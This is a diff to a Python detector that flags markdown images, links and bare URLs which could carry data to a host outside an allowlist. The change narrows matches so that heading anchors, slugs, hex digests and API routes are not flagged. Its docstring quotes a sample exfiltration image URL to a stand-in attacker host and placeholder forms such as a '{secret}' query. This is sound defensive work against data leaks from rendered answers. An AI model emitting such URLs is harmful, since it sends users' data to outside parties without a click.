@@ -3,9 +3,10 @@ allowlist, and URLs with long query strings.
 
 A markdown image (`![x](https://evil.example/p.png?d=...)`) or an HTML `<img>` is fetched
 by the client that renders the answer, with no click: any data in its URL leaves. A
-markdown link leaks when clicked. The data rides in the query string, the fragment, or a
-long path segment; a URL that is a template to fill in (`?q={secret}`, `[DATA]`, `$VAR`)
-is flagged whatever its length. Hosts are read as `url.host` reads them; a host in the
+markdown link leaks when clicked. The data rides in the query string, the fragment (one
+that is not a heading's anchor such as `#getting-started`), or a long path segment; an image or link URL that is a template to fill in (`?q={secret}`,
+`[DATA]`, `$VAR`) is flagged whatever its length, and so is a bare URL whose query or
+fragment is one (a placeholder in a bare URL's path is also how API routes are written). Hosts are read as `url.host` reads them; a host in the
 allowlist, or a subdomain of one, never counts.
 """
 
@@ -36,7 +37,9 @@ def _patterns() -> dict[str, Regex]:
         "template": Regex(
             r"\{[^}]{0,80}\}|\$\{|\$[A-Z_]{3,}|\[[A-Z_ ]{3,}\]|%7B|<[a-z_]{3,}>", "i"
         ),
-        "data": Regex(r"[A-Za-z0-9+/=_%\-]{" + str(LONG_SEGMENT) + ",}"),
+        "data": Regex(r"[A-Za-z0-9+/=_%.\-]{" + str(LONG_SEGMENT) + ",}"),
+        "hex": Regex(r"[0-9a-f]+"),
+        "anchor": Regex(r"[a-z][a-z0-9]*(?:[\-_.:][a-z0-9]+)*"),
     }
 
 
@@ -78,21 +81,20 @@ def _judge(url: str, start: int, end: int, shape: str, hosts: Sequence[str]) -> 
         return []  # a relative link: it stays on the page's own host
     if _allowed(url, hosts):
         return []
-    query = parts.query + parts.fragment
     p = _patterns()
+    # A heading's anchor (`#dependencies-that-need-more-than-one-resource`) is no data.
+    query = parts.query + ("" if p["anchor"].fullmatch(parts.fragment) else parts.fragment)
     if p["template"].search(url.split("://", 1)[-1]):
-        weight = 0.9 if shape != "url" else 0.6
-        return [
-            Hit(
-                KIND,
-                f"{shape}_template",
-                start,
-                end,
-                weight,
-                f"a {_NAMES[shape]} URL with a placeholder to fill in with data",
-            )
-        ]
-    segment = any(len(s) >= LONG_SEGMENT and p["data"].fullmatch(s) for s in parts.path.split("/"))
+        if shape != "url":
+            reason = f"a {shape} URL with a placeholder to fill in with data"
+            return [Hit(KIND, f"{shape}_template", start, end, 0.9, reason)]
+        if p["template"].search(query):
+            reason = "a bare URL with a placeholder in its query to fill in with data"
+            return [Hit(KIND, "url_template", start, end, 0.6, reason)]
+        # `https://api.example/users/{id}`: an API route or a code sample, as often as a trap
+        reason = "a bare URL with a placeholder in its address"
+        return [Hit(KIND, "url_template", start, end, 0.4, reason)]
+    segment = any(_encoded(s) for s in parts.path.split("/"))
     if shape == "image" and (query or segment):
         return [
             Hit(
@@ -129,7 +131,24 @@ def _judge(url: str, start: int, end: int, shape: str, hosts: Sequence[str]) -> 
     return []
 
 
-_NAMES = {"image": "image", "link": "link", "url": "bare"}
+_DIGEST_LENGTHS = (32, 40, 64)  # MD5, SHA-1 (a Git commit), SHA-256 in hex
+
+
+def _encoded(segment: str) -> bool:
+    """Whether a path segment reads as data: `LONG_SEGMENT` characters or more of base64,
+    hex or percent-encoding. Not a slug (`creating-and-viewing-access-tokens`), a UUID or
+    an id: words joined by a separator every 16 characters or sooner, letters of one case
+    without digits, or a hex digest or Git commit id (`/commit/1a83ad6a...`)."""
+    if len(segment) < LONG_SEGMENT or not _patterns()["data"].fullmatch(segment):
+        return False
+    if segment.count("%") >= 3:
+        return True  # percent-encoded text
+    if 16 * (segment.count("-") + segment.count("_")) >= len(segment):
+        return False
+    if len(segment) in _DIGEST_LENGTHS and _patterns()["hex"].fullmatch(segment):
+        return False
+    digits = any(c.isdigit() for c in segment)
+    return digits or (segment.lower() != segment and segment.upper() != segment)
 
 
 def _allowed(url: str, hosts: Sequence[str]) -> bool:
